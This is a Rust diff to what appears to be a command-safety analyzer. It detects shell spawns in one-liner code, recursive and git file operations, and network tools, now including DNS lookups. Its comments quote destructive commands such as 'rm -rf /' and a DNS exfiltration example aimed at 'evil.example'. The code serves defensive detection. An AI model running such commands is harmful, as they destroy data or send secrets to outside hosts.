@@ -712,13 +712,29 @@ pub(crate) fn interpreter_invocation(flags: &InterpreterFlags, args: &[String]) 
     inv
 }
 
+/// Commands one-liner code runs through a shell or spawn call.
+#[derive(Debug, Default)]
+pub(crate) struct Spawns {
+    /// Each spawned command as shell text; a part computed at run time (`'terraform ' + op`)
+    /// is the unknown word `$__ward_computed`.
+    pub scripts: Vec<String>,
+    /// A spawn call whose command has no literal at all (`os.system(cmd)`).
+    pub unknown: bool,
+}
+
+/// Stands for the part of a spawned command the code computes at run time. No line assigns
+/// it, so the analysis treats it as a word only known at run time.
+const COMPUTED: &str = "$__ward_computed";
+
 /// Calls in one-liner code that run a shell command, e.g. `os.system('rm -rf /')`,
 /// `subprocess.run(["rm", "-rf", "/"])`, `execSync("…")`, `system("…")`, Ruby/Perl backticks.
-pub(crate) fn shell_outs(code: &str) -> Vec<String> {
+pub(crate) fn shell_outs(code: &str) -> Spawns {
     const CALLS: &[&str] = &[
         "system(",
         "popen(",
         "execSync(",
+        "execFileSync(",
+        "execFile(",
         "exec(",
         "spawnSync(",
         "spawn(",
@@ -731,16 +747,57 @@ pub(crate) fn shell_outs(code: &str) -> Vec<String> {
         "Popen(",
         "shell_exec(",
         "passthru(",
+        "execv(",
+        "execvp(",
+        "execl(",
+        "execlp(",
         "do shell script ",
         "qx(",
         "%x(",
     ];
+    /// Calls that spawn whatever they are given wherever they appear; the others (`run(`,
+    /// `call(`, `exec(` …) also name ordinary functions, so a non-literal argument of those
+    /// counts only after `subprocess.`, `os.` or `child_process.`.
+    const ALWAYS_SPAWN: &[&str] = &[
+        "system(",
+        "popen(",
+        "execSync(",
+        "execFileSync(",
+        "spawnSync(",
+        "check_output(",
+        "check_call(",
+        "getoutput(",
+        "getstatusoutput(",
+        "Popen(",
+        "shell_exec(",
+        "passthru(",
+        "execv(",
+        "execvp(",
+        "execl(",
+        "execlp(",
+    ];
+    let mut spawns = Spawns::default();
     let mut out = Vec::new();
     for call in CALLS {
         let mut from = 0;
         while let Some(found) = code.get(from..).and_then(|s| s.find(call)) {
-            let after = from + found + call.len();
+            let at = from + found;
+            let after = at + call.len();
             from = after;
+            let before = &code[..at];
+            // `shell_exec(` contains `exec(`: count each call once, by its longest name.
+            if before.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                && !call.starts_with(|c: char| c.is_ascii_uppercase())
+            {
+                if CALLS.iter().any(|longer| {
+                    longer.len() > call.len() && longer.ends_with(call) && code[..after].ends_with(longer)
+                }) {
+                    continue;
+                }
+                if !matches!(*call, "system(" | "popen(" | "spawn(" | "exec(") {
+                    continue;
+                }
+            }
             let rest = code.get(after..).unwrap_or_default().trim_start();
             if matches!(*call, "qx(" | "%x(") {
                 if let Some(end) = rest.find(')') {
@@ -748,21 +805,37 @@ pub(crate) fn shell_outs(code: &str) -> Vec<String> {
                 }
                 continue;
             }
+            let spawner = ALWAYS_SPAWN.contains(call)
+                || ["subprocess.", "os.", "child_process.", "cp.", "Kernel.", "Open3."]
+                    .iter()
+                    .any(|m| before.ends_with(m))
+                || ["subprocess", "child_process", "Open3"].iter().any(|m| code.contains(m));
             if let Some(list) = rest.strip_prefix('[') {
                 // Argument vector: join the string literals.
                 let end = list.find(']').unwrap_or(list.len());
-                let words: Vec<String> = string_literals(&list[..end]);
+                let (mut words, complete) = literal_run(&list[..end], true);
+                if !complete {
+                    words.push(COMPUTED.to_owned());
+                }
+                if words.len() == 1 && words[0] == COMPUTED {
+                    spawns.unknown |= spawner;
+                } else if !words.is_empty() {
+                    out.push(words.join(" "));
+                }
+            } else if rest.starts_with(['"', '\'', '`']) {
+                let (mut words, complete) = literal_run(rest, false);
+                if !complete {
+                    words.push(COMPUTED.to_owned());
+                }
                 if !words.is_empty() {
                     out.push(words.join(" "));
                 }
-            } else if let Some(lit) = string_literals(rest).into_iter().next() {
-                if rest.starts_with(['"', '\'', '`']) {
-                    out.push(lit);
-                }
+            } else if spawner && !rest.starts_with(')') {
+                spawns.unknown = true;
             }
         }
     }
-    // `exec(` also matches inside `shell_exec(`: report each script once.
+    // Report each script once.
     let mut seen = Vec::new();
     out.retain(|s| {
         let new = !seen.contains(s);
@@ -773,14 +846,192 @@ pub(crate) fn shell_outs(code: &str) -> Vec<String> {
     let mut parts = code.split('`');
     parts.next();
     while let Some(inner) = parts.next() {
-        if parts.next().is_some() && !inner.contains("${") {
-            out.push(inner.to_owned());
+        if parts.next().is_some() {
+            if inner.contains("${") || inner.contains("#{") {
+                out.push(format!(
+                    "{} {COMPUTED}",
+                    inner.split("${").next().unwrap_or_default().split("#{").next().unwrap_or_default()
+                ));
+            } else {
+                out.push(inner.to_owned());
+            }
+        }
+    }
+    spawns.scripts = out;
+    spawns
+}
+
+/// The string literals at the start of `text` and whether the argument ends there: `true`
+/// when what follows is `)`, `,`, `]` or the end (in a list, all elements must be literal);
+/// `false` when code continues it (`'terraform ' + op`, `f"…{x}"`, `'%s' % x`).
+fn literal_run(text: &str, list: bool) -> (Vec<String>, bool) {
+    let lits = string_literals(text);
+    // Find where the literals end by re-scanning: cheap, the text is short.
+    let mut chars = text.char_indices().peekable();
+    let mut count = 0;
+    let mut end = text.len();
+    loop {
+        while chars.peek().is_some_and(|(_, c)| c.is_whitespace() || *c == ',') {
+            chars.next();
+        }
+        let Some(&(i, q)) = chars.peek() else { break };
+        if !matches!(q, '"' | '\'' | '`') || count == lits.len() {
+            end = i;
+            break;
+        }
+        chars.next();
+        while let Some((_, c)) = chars.next() {
+            if c == '\\' {
+                chars.next();
+            } else if c == q {
+                break;
+            }
+        }
+        count += 1;
+    }
+    let after = text[end.min(text.len())..].trim_start();
+    let complete =
+        if list { after.is_empty() } else { after.is_empty() || after.starts_with([')', ',', ']', ';']) };
+    // An f-string or template literal with placeholders is computed too.
+    let templated = lits.iter().any(|l| l.contains('{') && l.contains('}'))
+        || text.trim_start().starts_with('`') && text.contains("${");
+    (lits, complete && !templated)
+}
+
+/// Every string literal in one-liner code (single, double or back quotes), up to a bound.
+pub(crate) fn code_literals(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut chars = code.chars();
+    while let Some(c) = chars.next() {
+        if !matches!(c, '"' | '\'') {
+            continue;
+        }
+        let mut s = String::new();
+        let mut closed = false;
+        for d in chars.by_ref() {
+            if d == '\\' {
+                continue;
+            }
+            if d == c {
+                closed = true;
+                break;
+            }
+            s.push(d);
+        }
+        if closed && !s.is_empty() && !out.contains(&s) {
+            out.push(s);
+            if out.len() >= 256 {
+                break;
+            }
         }
     }
     out
 }
 
-/// The string literals at the start of `text` (`"a", 'b'` …), up to the first non-literal.
+/// A literal that may name a file: no spaces, and a `/`, a leading `~` or a `.` in it.
+pub(crate) fn looks_like_path(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 4096
+        && !s.chars().any(|c| c.is_whitespace() || c.is_control() || matches!(c, '{' | '}' | '%' | '$'))
+        && (s.contains('/')
+            || s.starts_with('~')
+            || (s.contains('.') && !s.ends_with('.') && !s.starts_with("..") && s != "."))
+}
+
+/// True when `program` with `args` works through whole directory trees (`rm -r`, `cp -a`,
+/// `grep -r`, `rg`, `tar c`, `zip -r`, `rsync -a`, `scp -r`, `chmod -R`, `du`, `tree`). An
+/// option only known at run time may be the recursive one.
+pub(crate) fn is_recursive(program: &str, args: &[String]) -> bool {
+    let unknown = args.iter().any(|a| a.starts_with('\0'));
+    let flag = |letters: &str, long: &[&str]| {
+        unknown
+            || args.iter().any(|a| {
+                long.contains(&a.as_str())
+                    || (a.starts_with('-')
+                        && !a.starts_with("--")
+                        && a.chars().skip(1).any(|c| letters.contains(c)))
+            })
+    };
+    match program {
+        "rg" | "ag" | "ack" | "tree" | "du" | "tar" | "gtar" | "bsdtar" | "7z" | "7za" | "git-grep" => true,
+        "rm" | "cp" | "scp" | "grep" | "egrep" | "fgrep" | "zgrep" => flag(
+            if program == "cp" { "rRa" } else { "rR" },
+            &["--recursive", "--archive", "--dereference-recursive", "--directories=recurse"],
+        ),
+        "chmod" | "chown" | "chgrp" | "setfacl" | "ls" => flag("R", &["--recursive"]),
+        "zip" => flag("rR", &["--recurse-paths"]),
+        "rsync" => flag("ra", &["--recursive", "--archive"]),
+        _ => false,
+    }
+}
+
+/// Files git sub-commands touch in the working tree: `git rm` deletes, `git mv` moves,
+/// `git checkout [--] PATHS` and `git restore PATHS` rewrite. `tree` marks a path whose
+/// whole subtree is touched. `-C DIR` is applied.
+pub(crate) fn git_file_arguments(args: &[String], sink: &mut dyn FnMut(&str, Access, bool)) {
+    let mut i = 0;
+    let mut dir: Option<String> = None;
+    while let Some(a) = args.get(i) {
+        match a.as_str() {
+            "-C" => {
+                dir = args.get(i + 1).cloned();
+                i += 2;
+            }
+            "-c" | "--git-dir" | "--work-tree" | "--namespace" => i += 2,
+            a if a.starts_with('-') => i += 1,
+            _ => break,
+        }
+    }
+    let Some(sub) = args.get(i) else { return };
+    let rest = &args[i + 1..];
+    let (value_opts, access): (&[&str], Access) = match sub.as_str() {
+        "rm" => (&["--pathspec-from-file"], Access::Delete),
+        "mv" => (&[], Access::Delete),
+        "checkout" => (&["-b", "-B", "--orphan", "--conflict", "--pathspec-from-file"], Access::Write),
+        "restore" => (&["-s", "--source", "--conflict", "--pathspec-from-file"], Access::Write),
+        _ => return,
+    };
+    let mut operands: Vec<&String> = Vec::new();
+    let mut after_dashes = false;
+    let mut j = 0;
+    while let Some(a) = rest.get(j) {
+        j += 1;
+        if after_dashes {
+            operands.push(a);
+        } else if a == "--" {
+            after_dashes = true;
+        } else if value_opts.contains(&a.as_str()) {
+            j += 1;
+        } else if !a.starts_with('-') || a.starts_with('\0') {
+            operands.push(a);
+        }
+    }
+    let join = |p: &str| match &dir {
+        Some(d) if !p.starts_with('/') && !p.starts_with('~') => format!("{}/{p}", d.trim_end_matches('/')),
+        _ => p.to_owned(),
+    };
+    let recursive = sub == "rm"
+        && rest.iter().any(|a| a == "-r" || (a.starts_with('-') && !a.starts_with("--") && a.contains('r')));
+    // `git checkout -- .` / `git restore .` bring back the index's version of the files named,
+    // nothing else; with a source (`--source X`, `checkout X -- .`) they make the tree
+    // match another commit, which may remove any file under them.
+    let dashes = rest.iter().position(|a| a == "--");
+    let from_source = rest.iter().any(|a| a == "-s" || a.starts_with("--source"))
+        || (sub == "checkout" && dashes.is_some_and(|d| rest[..d].iter().any(|a| !a.starts_with('-'))));
+    if sub == "mv" {
+        if let Some((last, sources)) = operands.split_last() {
+            for s in sources {
+                sink(&join(s), Access::Delete, true);
+            }
+            sink(&join(last), Access::Write, false);
+        }
+        return;
+    }
+    for o in operands {
+        sink(&join(o), access, if sub == "rm" { recursive } else { from_source });
+    }
+}
+
 fn string_literals(text: &str) -> Vec<String> {
     let mut out = Vec::new();
     let mut chars = text.chars().peekable();
@@ -827,6 +1078,8 @@ pub(crate) struct FindExec {
 #[derive(Debug, Default)]
 pub(crate) struct FindInvocation {
     pub start_paths: Vec<String>,
+    /// The `-name`/`-iname` glob, when there is exactly one and no `-o` alternatives.
+    pub name: Option<String>,
     pub deletes: bool,
     pub writes: Vec<String>,
     pub execs: Vec<FindExec>,
@@ -854,9 +1107,17 @@ pub(crate) fn find_invocation(args: &[String]) -> FindInvocation {
     if inv.start_paths.is_empty() {
         inv.start_paths.push(".".to_owned());
     }
+    let mut names = 0;
+    let mut alternatives = false;
     while let Some(a) = args.get(i) {
         i += 1;
         match a.as_str() {
+            "-name" | "-iname" => {
+                names += 1;
+                inv.name = args.get(i).filter(|n| !n.contains('/')).cloned();
+                i += 1;
+            }
+            "-o" | "-or" | "!" | "-not" => alternatives = true,
             "-delete" => inv.deletes = true,
             "-exec" | "-execdir" | "-ok" | "-okdir" => {
                 let mut argv = Vec::new();
@@ -885,6 +1146,9 @@ pub(crate) fn find_invocation(args: &[String]) -> FindInvocation {
             }
             _ => {}
         }
+    }
+    if names != 1 || alternatives {
+        inv.name = None;
     }
     inv
 }
@@ -933,9 +1197,9 @@ pub(crate) fn network_kind(program: &str) -> Option<NetworkKind> {
     Some(match program {
         "curl" | "wget" | "wget2" | "http" | "https" | "xh" | "xhs" | "fetch" | "aria2c" | "lwp-request"
         | "GET" | "POST" | "HEAD" => NetworkKind::HttpClient,
-        "nc" | "ncat" | "netcat" | "telnet" | "ping" | "ping6" | "mosh" | "ftp" | "sftp" => {
-            NetworkKind::HostFirst
-        }
+        // DNS lookups carry data out in the name they ask for (`dig $(… | base64).evil.example`).
+        "nc" | "ncat" | "netcat" | "telnet" | "ping" | "ping6" | "mosh" | "ftp" | "sftp" | "dig"
+        | "nslookup" | "host" | "drill" | "whois" | "traceroute" | "tracepath" => NetworkKind::HostFirst,
         "scp" | "rsync" => NetworkKind::RemoteCopy,
         "git" | "pip" | "pip3" | "uv" | "uvx" | "pipx" | "npm" | "npx" | "pnpm" | "yarn" | "gem" | "go"
         | "cargo" | "brew" | "docker" | "podman" | "helm" | "kubectl" | "open" | "xdg-open" | "gh"
@@ -1604,8 +1868,35 @@ fn tar(args: &[String], sink: &mut dyn FnMut(&str, Access)) {
         }
     }
     if creates {
-        p.operands.iter().for_each(|o| sink(o, Access::Read));
+        // `tar -C DIR -c NAMES`: the names are inside DIR.
+        let dir = p.values(&["-C", "--directory"]).last().map(str::to_owned);
+        for o in &p.operands {
+            match &dir {
+                Some(d) if !o.starts_with('/') && !o.starts_with('~') => {
+                    sink(&format!("{}/{o}", d.trim_end_matches('/')), Access::Read)
+                }
+                _ => sink(o, Access::Read),
+            }
+        }
     }
+}
+
+/// Whether `program` has an entry in the file-argument table (or its own parser there).
+pub(crate) fn knows_file_arguments(program: &str) -> bool {
+    matches!(
+        program,
+        "tar"
+            | "gtar"
+            | "bsdtar"
+            | "dd"
+            | "openssl"
+            | "gpg"
+            | "gpg2"
+            | "age"
+            | "ssh-keygen"
+            | "security"
+            | "patch"
+    ) || FILE_ARGS.iter().any(|f| f.programs.contains(&program))
 }
 
 fn crypto_tool(program: &str, args: &[String], sink: &mut dyn FnMut(&str, Access)) {
